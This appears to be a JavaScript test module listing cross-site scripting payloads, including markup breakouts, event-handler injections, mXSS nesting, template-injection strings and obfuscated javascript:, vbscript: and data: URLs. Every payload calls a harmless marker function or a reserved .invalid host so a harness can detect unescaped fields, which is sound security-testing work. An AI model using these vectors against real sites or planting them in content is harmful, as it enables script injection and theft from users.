/** Host that no page asks: a request to it is a payload that got through. */
export const markerHost = 'trust-marker.invalid'

/**
 * Texts that run, load or break out where they are taken for markup: number → text. What runs calls `__trust` with the
 * number, so that the field it came from is known.
 *
 * @see https://owasp.org/www-community/xss-filter-evasion-cheatsheet
 * @type {readonly ((number: number) => string)[]}
 */
export const texts = [
  (n) => `<script>__trust(${n})</script>`,
  (n) => `<img src=x onerror=__trust(${n})>`,
  (n) => `"><svg onload=__trust(${n})>`,
  (n) => `'><details open ontoggle=__trust(${n})>`,
  (n) => `</script><script>__trust(${n})</script>`,
  (n) => `<!--<script>__trust(${n})</script>`,
  (n) => `--><script>__trust(${n})</script>`,
  (n) => `</title><script>__trust(${n})</script>`,
  (n) => `</style></textarea></noscript><script>__trust(${n})</script>`,
  (n) => `" autofocus onfocus=__trust(${n}) x="`,
  (n) => `' onmouseover='__trust(${n})' x='`,
  (n) => `<iframe srcdoc="<script>parent.__trust(${n})</script>"></iframe>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=__trust(${n})>`,
  (n) => `<svg><animate onbegin=__trust(${n}) attributeName=x dur=1s>`,
  (n) => `<img src="//${markerHost}/${n}">`,
  (n) => `<link rel=stylesheet href="//${markerHost}/${n}">`,
  (n) => `<meta http-equiv=refresh content="0;url=//${markerHost}/${n}">`,
  (n) => `<base href="//${markerHost}/${n}/">`,
  (n) => `"};__trust(${n})//`,
  (n) => `\\"};__trust(${n})//`,
  (n) => `</script\u2028><script>__trust(${n})</script\t>`,
  (n) => `]]><script xmlns="http://www.w3.org/1999/xhtml">__trust(${n})</script>`,
  (n) => `\${__trust(${n})}\`+__trust(${n})+\``,
  (n) => `&lt;img src=x onerror=__trust(${n})&gt;`,
  (n) => `{{constructor.constructor('__trust(${n})')()}}`,
]

/** Texts that run where they are taken for a URL. */
export const urls = [
  (n) => `javascript:__trust(${n})`,
  (n) => `JaVaScRiPt:__trust(${n})`,
  (n) => `java\tscript:__trust(${n})`,
  (n) => `\u0001javascript:__trust(${n})`,
  (n) => `javascript&colon;__trust(${n})`,
  (n) => `vbscript:__trust(${n})`,
  (n) => `data:text/html,<script>parent.__trust(${n})</script>`,
  (n) => `view-source:javascript:__trust(${n})`,
  (n) => `https://example.com/"onmouseover="__trust(${n})`,
  (n) => `/"><script>__trust(${n})</script>`,
]
